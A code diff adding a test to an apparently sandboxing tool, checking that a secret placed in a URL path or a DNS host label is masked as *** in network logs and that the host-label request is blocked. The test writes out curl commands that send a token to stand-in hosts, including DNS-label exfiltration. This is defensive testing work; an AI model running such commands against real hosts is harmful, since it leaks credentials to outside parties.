@@ -518,3 +518,17 @@ def test_capture_all_keeps_conntrack_entries_short(web, capture, time_wait):
                             "nf_conntrack_tcp_timeout_time_wait nf_conntrack_udp_timeout "
                             "nf_conntrack_tcp_timeout_established")
     assert r.stdout.split() == [time_wait, "2" if capture == "all" else "30", "432000"]
+
+
+def test_a_secret_in_a_url_is_masked_in_the_logs(web):
+    """As in stdout: a secret the code puts in a path or a host name (exfiltration by DNS
+    label) comes back as ***, in allowed and blocked entries alike."""
+    secret = "s3cr3t-t0ken-4242"
+    flt = policy(web, hosts=policy(web)["hosts"] | {f"{secret}.other.test": "127.0.0.1:9"})
+    with Isol8(network="filtered", network_filter=flt, log_network=True,
+               secrets={"TOKEN": secret}) as eng:
+        r = eng.execute(cmd=CURL + 'http://good.test/q?key=$TOKEN; '
+                            + CURL + "http://$TOKEN.other.test/x")
+    logs = [(e.host, e.path, e.action) for e in r.network_logs]
+    assert logs == [("good.test", "/q?key=***", "ALLOW"), ("***.other.test", "/x", "BLOCK")]
+    assert secret not in repr(r.network_logs)
